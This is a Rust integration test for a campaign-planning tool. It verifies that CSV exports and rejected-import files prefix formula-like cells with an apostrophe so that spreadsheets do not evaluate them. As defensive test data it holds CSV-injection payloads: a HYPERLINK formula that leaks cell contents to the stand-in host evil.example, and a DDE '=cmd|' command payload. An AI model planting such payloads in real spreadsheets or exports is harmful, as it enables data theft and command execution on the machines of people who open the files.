//! CSV exports open in spreadsheets: a cell from imported data that starts like a formula
//! (`=HYPERLINK(…)`, `+`, `-`, `@`) is written with a leading `'`, in the campaign plan and in
//! the rejected rows of an import, on both backends.

use std::path::Path;

use chrono::{NaiveDate, TimeZone, Utc};
use retentiond::campaigns::CampaignSet;
use retentiond::config::{ModelSettings, Settings};
use retentiond::ingest::import_dir;
use retentiond::models::training;
use retentiond::selection::offer::Secrets;
use retentiond::selection::run::plan;

use crate::helpers::{TestDb, write_dir};
use crate::import::options;
use crate::models::{brand, end, import};
use crate::on_both_backends;

const FORMULA: [&str; 4] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1)&\"",
    "+",
    "-",
    "@",
];

/// Whether a spreadsheet would evaluate this cell.
fn formula_like(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// A hostile prefix per value, spread over the four kinds.
fn hostile(value: &str) -> String {
    let k = value.bytes().map(usize::from).sum::<usize>() % FORMULA.len();
    format!("{}{value}", FORMULA[k])
}

/// Copies the contract files of `src` with every customer id, first name and product name
/// made to start like a formula.
fn hostile_copy(src: &Path, out: &Path) {
    for file in [
        "customers.csv",
        "products.csv",
        "orders.csv",
        "order_items.csv",
        "sessions.csv",
        "events.csv",
    ] {
        let mut r = csv::Reader::from_path(src.join(file)).unwrap();
        let header = r.headers().unwrap().clone();
        let poisoned: Vec<bool> = header
            .iter()
            .map(|h| {
                h == "customer_id" || h == "first_name" || (file == "products.csv" && h == "name")
            })
            .collect();
        let mut w = csv::Writer::from_path(out.join(file)).unwrap();
        w.write_record(&header).unwrap();
        for row in r.records() {
            let row = row.unwrap();
            let cells: Vec<String> = row
                .iter()
                .zip(&poisoned)
                .map(|(v, p)| {
                    if *p && !v.is_empty() {
                        hostile(v)
                    } else {
                        v.to_string()
                    }
                })
                .collect();
            w.write_record(&cells).unwrap();
        }
        w.flush().unwrap();
    }
}

async fn csv_exports_neutralize_formula_cells(t: TestDb) {
    let data = tempfile::tempdir().unwrap();
    hostile_copy(&brand(2000), data.path());
    import(&t.db, data.path()).await;
    let m = ModelSettings {
        max_train_rows: 20_000,
        ..ModelSettings::default()
    };
    training::train(&t.db, &m, chrono_tz::UTC, end())
        .await
        .unwrap();
    let day = NaiveDate::from_ymd_opt(2026, 11, 1).unwrap();
    retentiond::scoring::score(&t.db, end(), &day.to_string(), 200, 90.0, 90)
        .await
        .unwrap();
    let mut s = Settings::default();
    s.brand.timezone = "Asia/Kolkata".into();
    s.campaigns.dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("config/campaigns");
    let set = CampaignSet::load(&s.campaigns.dir).unwrap();
    let now = chrono_tz::Asia::Kolkata
        .from_local_datetime(&day.and_hms_opt(12, 0, 0).unwrap())
        .unwrap()
        .with_timezone(&Utc);
    let secrets = Secrets {
        unsubscribe: Some(b"test-unsubscribe-secret-0123456789".to_vec()),
        code: Some(b"test-code-secret-0123456789".to_vec()),
    };
    let p = plan(&t.db, &s, &set, None, day, now, &secrets)
        .await
        .unwrap();
    assert!(
        p.planned.len() > 20,
        "[{}] too few planned rows to show anything: {}",
        t.name,
        p.planned.len()
    );
    assert!(
        p.planned.iter().all(|x| formula_like(&x.customer_id)),
        "the data is hostile throughout"
    );

    let out = tempfile::tempdir().unwrap();
    let path = out.path().join("plan.csv");
    p.write_csv(&path).unwrap();
    let mut r = csv::Reader::from_path(&path).unwrap();
    let header = r.headers().unwrap().clone();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let numeric: Vec<usize> = [
        "p_return",
        "p_alive",
        "lapse_risk",
        "window_lo_days",
        "window_median_days",
        "window_hi_days",
    ]
    .iter()
    .map(|c| col(c))
    .collect();
    let (mut rows, mut quoted_products) = (0, 0);
    for (row, planned) in r.records().map(Result::unwrap).zip(&p.planned) {
        rows += 1;
        for (i, cell) in row.iter().enumerate() {
            if numeric.contains(&i) {
                assert!(
                    cell.parse::<f64>().is_ok(),
                    "numeric column {} holds {cell:?}",
                    &header[i]
                );
            } else {
                assert!(
                    !formula_like(cell),
                    "[{}] column {} starts like a formula: {cell:?}",
                    t.name,
                    &header[i]
                );
            }
        }
        // The id reads back as itself behind the quote.
        assert_eq!(row[col("customer_id")], format!("'{}", planned.customer_id));
        quoted_products += row[col("products")].starts_with('\'') as usize;
    }
    assert_eq!(rows, p.planned.len());
    assert!(
        quoted_products > 0,
        "[{}] no product pick was shown: the product names were not tested",
        t.name
    );

    // Rejected rows with --skip-invalid: every raw cell, the header's too.
    let orders = "order_id,customer_id,ordered_at,total_amount,=cmd|' /C calc'!A0\n\
O1,C1,2024-01-01,10,x\n\
\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1)\",C1,nope,10,x\n\
@O3,-C1,2024-01-01,-5,+1\n";
    let dir = write_dir(&[("orders.csv", orders)]);
    let reports = tempfile::tempdir().unwrap();
    let mut opts = options(dir.path(), reports.path());
    opts.skip_invalid = true;
    let report = import_dir(&t.db, &opts).await.unwrap();
    let rejected = report.rejected_dir.unwrap().join("orders.csv");
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_path(&rejected)
        .unwrap();
    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 3, "header and two rejected rows");
    for row in &rows {
        for cell in row {
            assert!(
                !formula_like(cell),
                "[{}] rejected-row cell starts like a formula: {cell:?}",
                t.name
            );
        }
    }
    assert_eq!(&rows[0][4], "'=cmd|' /C calc'!A0");
    assert_eq!(&rows[1][0], "'=HYPERLINK(\"http://evil.example/?x=\"&A1)");
    assert_eq!(
        (
            &rows[2][0],
            &rows[2][1],
            &rows[2][3],
            &rows[2][4],
            &rows[2][5]
        ),
        ("'@O3", "'-C1", "'-5", "'+1", "4")
    );
}
on_both_backends!(
    csv_injection_sqlite,
    csv_injection_postgres,
    csv_exports_neutralize_formula_cells
);
